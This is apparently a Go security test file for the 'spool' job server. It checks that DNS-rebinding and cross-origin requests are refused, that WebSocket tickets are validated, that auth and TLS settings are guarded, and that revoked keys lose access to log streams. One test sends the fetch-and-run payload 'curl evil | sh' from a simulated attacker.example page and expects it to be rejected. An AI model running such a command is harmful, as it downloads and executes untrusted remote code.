package assembly_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/spool-run/spool"
	"github.com/spool-run/spool/client"
	"github.com/spool-run/spool/internal/assembly"
	"github.com/spool-run/spool/internal/config"
	"github.com/spool-run/spool/server"
	"github.com/spool-run/spool/spooltest"
)

// request sends method path with headers (Host is set as the request's
// host) and returns the response, body read and closed.
func request(t *testing.T, srv *spooltest.Server, method, path, body string, hdr map[string]string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, srv.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range hdr {
		if k == "Host" {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	_, _ = b.ReadFrom(resp.Body)
	return resp, b.String()
}

// wsStatus opens a job's log WebSocket with headers and returns the
// upgrade's status (101 when it opened).
func wsStatus(t *testing.T, srv *spooltest.Server, jobID, query string, hdr http.Header) int {
	t.Helper()
	u := strings.Replace(srv.URL, "http", "ws", 1) + "/api/v1/jobs/" + jobID + "/logs/ws" + query
	conn, resp, err := websocket.Dial(context.Background(), u, &websocket.DialOptions{HTTPHeader: hdr, Host: hdr.Get("Host")})
	if err == nil {
		conn.CloseNow()
		return http.StatusSwitchingProtocols
	}
	if resp == nil {
		t.Fatalf("websocket: %v", err)
	}
	return resp.StatusCode
}

// TestDNSRebindingRefused: a page of attacker.example whose name now
// points at the server sends Host and Origin attacker.example. Even with a
// key (a visitor's, say), enqueueing a script, cancelling and following a
// log are refused before anything runs.
func TestDNSRebindingRefused(t *testing.T) {
	t.Parallel()
	srv := start(t)
	job := spooltest.RunJob(t, srv, spooltest.Seq(1, 3)...)
	evil := map[string]string{"Host": "attacker.example", "Origin": "http://attacker.example", "Authorization": "Bearer " + srv.AdminKey,
		"Content-Type": "application/json"}
	resp, body := request(t, srv, http.MethodPost, "/spool.v1.JobService/EnqueueJob", `{"params":{"script":"curl evil | sh"}}`, evil)
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, `does not answer to the name \"attacker.example\"`) {
		t.Errorf("EnqueueJob: %s %s", resp.Status, body)
	}
	if resp, body := request(t, srv, http.MethodPost, "/api/v1/jobs/"+job.ID+"/cancel", "", evil); resp.StatusCode != http.StatusForbidden {
		t.Errorf("REST cancel: %s %s", resp.Status, body)
	}
	if got := wsStatus(t, srv, job.ID, "", http.Header{"Host": {"attacker.example"}, "Origin": {"http://attacker.example"},
		"Authorization": {"Bearer " + srv.AdminKey}}); got != http.StatusForbidden {
		t.Errorf("WebSocket: %d", got)
	}
	if n := len(listJobs(t, srv)); n != 1 {
		t.Errorf("%d jobs after the attack, want the 1 from before", n)
	}
}

func listJobs(t *testing.T, srv *spooltest.Server) []any {
	t.Helper()
	_, body := request(t, srv, http.MethodGet, "/api/v1/jobs", "", map[string]string{"Authorization": "Bearer " + srv.AdminKey})
	var l struct{ Jobs []any }
	if err := json.Unmarshal([]byte(body), &l); err != nil {
		t.Fatal(err)
	}
	return l.Jobs
}

// TestOrigins: browsers' requests from other sites' pages are refused
// (the WebSocket too), the server's own pages and configured CORS origins
// are let in, and only a configured origin is told so in CORS headers. A
// page of a CORS origin follows a log with a short-lived ticket, never a
// key in the URL.
func TestOrigins(t *testing.T) {
	t.Parallel()
	srv := start(t, func(c *server.Config) { c.Server.CORSOrigins = []string{"https://ci.example.com"} })
	job := spooltest.RunJob(t, srv, spooltest.Seq(1, 3)...)
	key := "Bearer " + srv.AdminKey
	enqueue := func(origin string) (*http.Response, string) {
		return request(t, srv, http.MethodPost, "/spool.v1.JobService/EnqueueJob", `{"params":{"argv":["true"]}}`,
			map[string]string{"Authorization": key, "Origin": origin, "Content-Type": "application/json"})
	}
	if resp, body := enqueue("https://evil.example"); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Access-Control-Allow-Origin") != "" ||
		!strings.Contains(body, "requests from pages of https://evil.example are refused") {
		t.Errorf("from another site: %s %v %s", resp.Status, resp.Header, body)
	}
	if resp, body := enqueue(srv.URL); resp.StatusCode != http.StatusOK || resp.Header.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("from the server's own page: %s %v %s", resp.Status, resp.Header, body)
	}
	if resp, body := enqueue("https://ci.example.com"); resp.StatusCode != http.StatusOK || resp.Header.Get("Access-Control-Allow-Origin") != "https://ci.example.com" {
		t.Errorf("from a CORS origin: %s %v %s", resp.Status, resp.Header, body)
	}
	resp, _ := request(t, srv, http.MethodOptions, "/spool.v1.JobService/EnqueueJob", "", map[string]string{"Origin": "https://ci.example.com",
		"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization, content-type"})
	if resp.StatusCode != http.StatusNoContent || !strings.Contains(resp.Header.Get("Access-Control-Allow-Headers"), "Authorization") {
		t.Errorf("preflight from a CORS origin: %s %v", resp.Status, resp.Header)
	}

	if got := wsStatus(t, srv, job.ID, "", http.Header{"Origin": {"https://evil.example"}, "Authorization": {key}}); got != http.StatusForbidden {
		t.Errorf("WebSocket from another site: %d", got)
	}
	// A page of the CORS origin cannot send a header on a WebSocket: it
	// asks for a ticket with its key, and shows the ticket.
	resp, body := request(t, srv, http.MethodPost, "/api/v1/session/ticket?job_id="+job.ID, "", map[string]string{"Authorization": key, "Origin": "https://ci.example.com"})
	var ticket struct{ Ticket string }
	if err := json.Unmarshal([]byte(body), &ticket); resp.StatusCode != http.StatusOK || err != nil || ticket.Ticket == "" {
		t.Fatalf("ticket: %s %s", resp.Status, body)
	}
	if got := wsStatus(t, srv, job.ID, "?ticket="+ticket.Ticket, http.Header{"Origin": {"https://ci.example.com"}}); got != http.StatusSwitchingProtocols {
		t.Errorf("WebSocket with a ticket from a CORS origin: %d", got)
	}
	if got := wsStatus(t, srv, job.ID, "?ticket=tk1.forged.AAAA", http.Header{"Origin": {"https://ci.example.com"}}); got != http.StatusUnauthorized {
		t.Errorf("WebSocket with a forged ticket: %d", got)
	}
	// A ticket is for the WebSocket only: it is no key for other calls.
	if resp, _ := request(t, srv, http.MethodGet, "/api/v1/jobs?ticket="+ticket.Ticket, "", nil); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("REST call with a ticket in the URL: %s", resp.Status)
	}
}

// TestAuthDisabled: turning auth off is refused unless the server listens
// on loopback; on loopback every call is let in, no key is written, and
// the server warns at start.
func TestAuthDisabled(t *testing.T) {
	t.Parallel()
	cfg := config.Default()
	cfg.Server.Addr, cfg.Server.DataDir, cfg.Auth.Disabled = "0.0.0.0:0", t.TempDir(), true
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "auth.disabled: is refused: the server listens on 0.0.0.0:0, which is not loopback") {
		t.Fatalf("auth.disabled on 0.0.0.0: %v", err)
	}

	cfg.Server.Addr = "127.0.0.1:0"
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	var logs bytes.Buffer
	srv, err := assembly.Start(context.Background(), cfg, assembly.Options{Log: slog.New(slog.NewTextHandler(&logs, nil))})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Stop(context.Background())
	if !strings.Contains(logs.String(), "auth is disabled: anyone who can reach this server may run commands") {
		t.Errorf("no warning at start:\n%s", logs.String())
	}
	if _, err := os.Stat(filepath.Join(cfg.Server.DataDir, "admin.key")); !os.IsNotExist(err) {
		t.Errorf("an admin key was written with auth disabled: %v", err)
	}
	resp, err := http.Post(srv.URL()+"/spool.v1.JobService/EnqueueJob", "application/json", strings.NewReader(`{"params":{"argv":["true"]}}`))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("enqueue without a key with auth disabled: %v %v", resp, err)
	}
	resp.Body.Close()
}

// TestNonLoopbackWithoutTLSWarns: a server reachable from the network
// without TLS says so at start.
func TestNonLoopbackWithoutTLSWarns(t *testing.T) {
	t.Parallel()
	cfg := config.Default()
	cfg.Server.Addr, cfg.Server.DataDir = "0.0.0.0:0", t.TempDir()
	var logs bytes.Buffer
	srv, err := assembly.Start(context.Background(), cfg, assembly.Options{Log: slog.New(slog.NewTextHandler(&logs, nil))})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Stop(context.Background())
	if !strings.Contains(logs.String(), "listening beyond this machine without TLS") {
		t.Errorf("no warning:\n%s", logs.String())
	}
	if !strings.Contains(logs.String(), "admin.key") {
		t.Errorf("the first start does not say where the admin key is:\n%s", logs.String())
	}
}

// TestRevocationEndsStreams: a key revoked while it follows a log that
// keeps coming gets no more of it within seconds: its stream ends with
// Unauthenticated though every read finds new lines.
func TestRevocationEndsStreams(t *testing.T) {
	t.Parallel()
	srv := start(t)
	key := srv.Key(t, spool.RoleRead)
	if _, _, err := srv.Client().Submit(context.Background(), client.SubmitParams{Argv: []string{"make"}}); err != nil {
		t.Fatal(err)
	}
	l := spooltest.LeaseJob(t, srv, "")
	l.Begin()
	l.Write(spooltest.Seq(1, 3)...)
	stream := newClient(t, srv, key).Events(context.Background(), l.JobID(), client.StreamOptions{Follow: true,
		Types: []spool.EventType{spool.EventOutput}})
	var revoked time.Time
	for ev, err := range stream.All() {
		if err != nil {
			if !errors.Is(err, spool.ErrUnauthenticated) {
				t.Fatalf("the stream ended with %v, want unauthenticated", err)
			}
			break
		}
		var n int64
		if ev.Lines != nil {
			n = ev.Lines[0].Number
		}
		if n == 3 {
			if _, err := srv.Client().RevokeKey(context.Background(), lastKeyName(t, srv)); err != nil {
				t.Fatal(err)
			}
			revoked = time.Now()
		}
		if n >= 3 {
			if time.Since(revoked) > 10*time.Second {
				t.Fatalf("the revoked key still reads lines (line %d) %v after the revocation", n, time.Since(revoked))
			}
			l.Write(spooltest.Seq(int(n)+1, int(n)+1)...) // the job goes on printing
		}
	}
	if revoked.IsZero() {
		t.Fatal("the stream ended before line 3")
	}
	t.Logf("the stream ended %v after the revocation", time.Since(revoked).Round(time.Millisecond))
	l.End(0)
}
